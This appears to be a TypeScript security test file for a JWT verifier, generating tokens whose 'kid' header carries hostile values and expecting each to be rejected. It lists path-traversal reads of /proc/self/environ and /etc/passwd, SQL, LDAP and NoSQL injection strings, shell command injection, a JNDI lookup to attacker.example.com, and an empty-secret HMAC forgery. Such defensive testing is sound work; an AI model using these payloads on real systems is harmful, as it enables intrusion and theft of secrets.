// kid: what a careless program would open as a file, send to a database or a shell, or cut at a NUL.
import { createHmac } from 'node:crypto';

import type { Mint } from '../../tokens/mint.ts';
import type { Recipe } from '../../tokens/recipes/recipe.ts';
import {
  algorithmNotAllowed,
  type AttackRecipe,
  attacks,
  keyUnknown,
  malformed,
} from './attack-recipe.ts';

/** The kid and, where it is not the same, how it is shown. */
const FILES: readonly (readonly [string, string?])[] = [
  ['../../../../../../dev/null'],
  ['/dev/null'],
  ['/etc/pgtoken/issuers.yaml'],
  ['/proc/self/environ'],
  ['/proc/sys/kernel/randomize_va_space'],
  ['file:///dev/null'],
  ['..%2f..%2f..%2fdev%2fnull'],
  ['....//....//dev/null'],
  [String.raw`..\..\..\windows\win.ini`, String.raw`..\\..\\..\\windows\\win.ini`],
  ['https://attacker.example.com/keys'],
  ['cluster-rs256/../attacker-rs256'],
  ['cluster-rs256.json'],
];
const QUERIES: readonly (readonly [string, string?])[] = [
  ["x' UNION SELECT 'attacker"],
  ["cluster-rs256' OR '1'='1"],
  ["cluster-rs256'--"],
  ["'; DROP TABLE keys; --"],
  ['cluster-rs256" OR ""="', String.raw`cluster-rs256\" OR \"\"=\"`],
  ['*)(uid=*))(|(uid=*'],
  ['{"$ne":null}', String.raw`{\"$ne\":null}`],
  ['%'],
  ['cluster-%'],
  ['*'],
  ['.*'],
];
const COMMANDS: readonly (readonly [string, string?])[] = [
  ['$(touch /tmp/attack)'],
  ['`touch /tmp/attack`'],
  ['|touch /tmp/attack'],
  ['key.pem; touch /tmp/attack'],
  ['--help'],
  ['{{7*7}}'],
  ['${jndi:ldap://attacker.example.com/x}'],
  ['%s%s%s%n'],
  [
    '<!ENTITY x SYSTEM "file:///etc/passwd">',
    String.raw`<!ENTITY x SYSTEM \"file:///etc/passwd\">`,
  ],
];
const NAMES: readonly (readonly [string, string?])[] = [
  ['cluster-rs256\0', String.raw`cluster-rs256\u0000`],
  ['cluster-rs256\0.pem', String.raw`cluster-rs256\u0000.pem`],
  ['\0', String.raw`\u0000`],
  ['cluster-rs256\n', String.raw`cluster-rs256\n`],
  ['cluster-rs256\r\n', String.raw`cluster-rs256\r\n`],
  ['\ncluster-rs256', String.raw`\ncluster-rs256`],
  ['cluster-rs256 '],
  [' cluster-rs256'],
  ['cluster-rs256\t', String.raw`cluster-rs256\t`],
  ['Cluster-RS256'],
  ['cluster-rs25\u{FF16}', String.raw`cluster-rs25\uff16`],
  ['clu\u{17F}ter-rs256', String.raw`clu\u017fter-rs256`],
  ['cluster\u{2010}rs256', String.raw`cluster\u2010rs256`],
  ['cluster-rs256\u{200B}', String.raw`cluster-rs256\u200b`],
  ['\u{FEFF}cluster-rs256', String.raw`\ufeffcluster-rs256`],
  ['cluster-rs256\u{D800}', String.raw`cluster-rs256\ud800`],
  ['cluster-rs256\u{FFFD}', String.raw`cluster-rs256\ufffd`],
  ['cluster'],
  ['0'],
  [''],
  ['undefined'],
  ['null'],
  ['__proto__'],
  ['constructor'],
  ['prototype'],
  ['toString'],
  ['hasOwnProperty'],
  ['length'],
];

export function keyIDs({ token }: Mint): AttackRecipe[] {
  const named = ([kid, shown = kid]: readonly [string, string?]): Recipe => ({
    name: `kid ${JSON.stringify(kid)}`,
    password: token({ key: 'attacker-rs256', header: { kid } }),
    expected: keyUnknown(shown),
  });
  return [
    ...attacks(
      'to have kid opened as a file or a URL whose content is known',
      'RFC 8725 section 2.9',
      FILES.map(named),
    ),
    ...attacks('to have kid put into a query', 'RFC 8725 section 2.9', QUERIES.map(named)),
    ...attacks('to have kid run, or filled in', 'RFC 8725 section 2.9', COMMANDS.map(named)),
    ...attacks(
      'to be taken for a key of the issuer, or for something that every object has',
      'RFC 8725 section 3.10',
      NAMES.map(named),
    ),
    ...attacks(
      'to be verified with the content of a file that is empty, or known',
      'RFC 8725 section 2.9',
      ['/dev/null', '../../../../../../dev/null'].map((kid) => ({
        name: `HS256 with an empty secret and kid ${kid}`,
        password: token({
          header: { alg: 'HS256', kid },
          signature: (_, text) => createHmac('sha256', '').update(text).digest(),
        }),
        expected: algorithmNotAllowed('"HS256"'),
      })),
    ),
    ...attacks('to fill the log, or what is looked up', 'RFC 8725 section 3.10', [
      {
        name: 'kid of 10,000 characters',
        password: token({ key: 'attacker-rs256', header: { kid: 'k'.repeat(10_000) } }),
        expected: {
          code: 'ERR_KEY_UNKNOWN',
          message: `the issuer has 8 keys, none with kid "${'k'.repeat(80)}"... (10000 characters)`,
        },
      },
      {
        name: "kid that begins with the issuer's, of 10,000 characters",
        password: token({
          key: 'attacker-rs256',
          header: { kid: `cluster-rs256${'\0'.repeat(1500)}` },
        }),
        expected: {
          code: 'ERR_KEY_UNKNOWN',
          message: `the issuer has 8 keys, none with kid "cluster-rs256${String.raw`\u0000`.repeat(67)}"... (1513 characters)`,
        },
      },
    ]),
    ...attacks(
      'to be compared with something other than a text',
      'RFC 7515 section 4.1.4',
      [null, true, false, 0, 1, ['cluster-rs256'], { kid: 'cluster-rs256' }, {}].map((kid) => ({
        name: `kid ${JSON.stringify(kid)}`,
        password: token({ header: { kid } }),
        expected: malformed('the header kid is no string'),
      })),
    ),
  ];
}
